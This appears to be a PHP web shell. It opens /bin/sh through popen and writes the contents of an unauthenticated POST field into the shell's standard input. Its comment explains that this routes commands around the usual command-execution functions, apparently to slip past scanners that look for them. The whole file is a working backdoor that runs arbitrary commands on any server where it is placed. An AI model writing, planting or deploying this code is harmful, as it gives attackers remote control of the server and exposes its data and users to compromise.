<?php
// A shell opened with popen() for writing: the posted lines go to its standard input, so the
// command text never reaches a command function.
if (!empty($_POST['lines'])) {
    $sh = popen('/bin/sh', 'w');
    fwrite($sh, $_POST['lines'] . "\n");
    pclose($sh);
    echo 'queued';
}
